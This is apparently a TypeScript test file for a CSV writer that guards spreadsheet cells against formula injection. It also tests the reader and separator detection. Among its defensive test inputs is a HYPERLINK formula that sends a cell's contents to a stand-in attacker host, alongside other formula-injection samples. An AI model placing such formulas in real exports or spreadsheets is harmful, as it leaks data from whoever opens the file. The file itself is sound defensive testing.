import fc from 'fast-check'
import { expect, it } from 'vitest'
import { csvCells, csvLine, separatorOf, withoutGuards } from './csv.ts'

it('writes a line that every CSV reader splits into the same cells', () => {
  expect(csvLine(['plain', null, 'a,b', 'say "so"', 'two\nlines', '-1.50'])).toBe(
    'plain,,"a,b","say ""so""","two\nlines",-1.50\r\n',
  )
})

it('leaves numbers unchanged, and nothing else counts as one', () => {
  expect(csvLine(['5', '-5', '12.5', '-12.50', '-1.', '-', '-1.5x', '-.5'])).toBe(
    "5,-5,12.5,-12.50,'-1.,'-,'-1.5x,'-.5\r\n",
  )
})

it('writes no cell that a spreadsheet reads as a formula', () => {
  expect(csvLine(['=1+1', '+49', '@now', '-x', '\t=1', '\r=1'])).toBe(
    "'=1+1,'+49,'@now,'-x,'\t'=1,\"'\r'=1\"\r\n",
  )
  // Some spreadsheets treat the wide forms alike, and also the text after an empty line.
  expect(csvLine(['＝1', '＋1', '－1', '＠a', '\n=1'])).toBe("'＝1,'＋1,'－1,'＠a,\"'\n'=1\"\r\n")
})

it.each([
  ['x;=HYPERLINK("http://evil.example?"&A1;"click")', 'x;\'=HYPERLINK("http://evil.example?"&A1;"click")'],
  ['x;@SUM(1+1)', "x;'@SUM(1+1)"],
  ['x;  =1', "x;'  =1"],
  ['x;"=1+1"', 'x;\'"=1+1"'],
  ['x\n-1', "x\n'-1"],
  ['x\v=1', "x\v'=1"],
  ['x\t+1;＝2', "x\t'+1;'＝2"],
  ['x;\u00a0\u200b=1', "x;'\u00a0\u200b=1"],
  ['a-b; c = d', 'a-b; c = d'],
])('writes no formula when another sign than a comma separates: %j', (text, written) => {
  expect(cellsOf(csvLine([text]), ',')).toEqual([written])
})

it('writes no formula after anything that a spreadsheet reads as the end of a cell, and a long text takes as long as a short one', () => {
  const pieces = fc.constantFrom(
    ';',
    '\t',
    '\n',
    '\r',
    ',',
    '"',
    ' ',
    '=',
    '+',
    '-',
    '@',
    '＝',
    '\ufeff',
    'a',
    '1',
  )
  const cells = fc.array(
    fc.array(pieces, { maxLength: 12 }).map((all) => all.join('')),
    { minLength: 1 },
  )
  fc.assert(
    fc.property(cells, (given) => {
      const line = csvLine(given).slice(0, -2)
      for (const separator of [';', '\t'])
        for (const cell of cellsOf(line, separator))
          expect(cell.replace(/^-\d+(?:\.\d+)?(?=,|$)/, ''), line).not.toMatch(/^[\s"\ufeff]*[=+\-@＝]/)
    }),
  )
  expect(csvLine([`${'\t'.repeat(1_000_000)}a`]).length).toBe(1_000_003)
})

it('distinguishes an apostrophe from a guard, and restores every text', () => {
  expect(csvLine(["'=1+1", '=1+1', "''x", "'tis", "a 'b'", "x;'=1"])).toBe(
    "''=1+1,'=1+1,'''x,''tis,a 'b',x;''=1\r\n",
  )
  const pieces = fc.constantFrom(
    "'",
    ';',
    '|',
    '\t',
    '\n',
    '\r',
    ' ',
    '"',
    '=',
    '+',
    '-',
    '@',
    '＝',
    '\u200b',
    'a',
    '1',
  )
  fc.assert(
    fc.property(
      fc.array(pieces, { maxLength: 12 }).map((all) => all.join('')),
      (text) => {
        expect(withoutGuards(cellsOf(csvLine([text]), ',')[0] ?? '')).toBe(text)
      },
    ),
    { numRuns: 2_000 },
  )
})

it('leaves the apostrophes of other programs that guard nothing', () => {
  for (const text of ["'t Hooft", "O'Brien", "a;'b", '351912']) expect(withoutGuards(text)).toBe(text)
})

/** A lenient reader splits the line in this way: a quotation mark within a cell is an ordinary character. */
function cellsOf(line: string, separator: string): string[] {
  const cells: string[] = []
  let rest = line
  for (;;) {
    const quoted = /^"((?:[^"]|"")*)"/.exec(rest)
    const end = rest.slice(quoted?.[0].length ?? 0).search(separator === ',' ? /[,]|\r\n$/ : /[;\t\r\n]/)
    const at = end < 0 ? rest.length : end + (quoted?.[0].length ?? 0)
    const inside = quoted ? (quoted[1] ?? '').replaceAll('""', '"') : ''
    cells.push(inside + rest.slice(quoted?.[0].length ?? 0, at))
    if (end < 0 || /^\r\n$/.test(rest.slice(at))) return cells
    rest = rest.slice(at + 1)
  }
}

it.each([
  ['a,b', ['a', 'b']],
  [' a , "b, c" ,', ['a', 'b, c', '']],
  ['"say ""so""",x', ['say "so"', 'x']],
  ['" b "', ['b']],
  ['', ['']],
  [',', ['', '']],
  ['a"b,c', ['a"b', 'c']],
  ['="00123",x', ['00123', 'x']],
  ['"=""00123""",x', ['00123', 'x']],
  [' ="say ""so""" ,=""', ['say "so"', '']],
  ['\'="00123"', ['="00123"']],
  ['=1+1,="a"&"b"', ['=1+1', '="a"&"b"']],
])('%j has the cells %j', (line, cells) => {
  expect(csvCells(line, ',')).toEqual(cells)
})

it.each(['"open', '"a"b,c', 'x,"y'])('%j is broken', (line) => {
  expect(csvCells(line, ',')).toBe(null)
})

it('reads what csvLine writes for spreadsheets', () => {
  const cell = fc.string().map((text) => text.replace(/[\r\n\t]/g, ' ').trim())
  fc.assert(
    fc.property(fc.array(cell, { minLength: 1 }), (cells) => {
      expect(csvCells(csvLine(cells).slice(0, -2), ',')).toEqual(cells)
    }),
  )
})

it('uses the separator of the heading', () => {
  expect(['a,b,c', 'a;b', 'a\tb;c\td', 'a|b', 'alone'].map(separatorOf)).toEqual([',', ';', '\t', '|', ','])
})
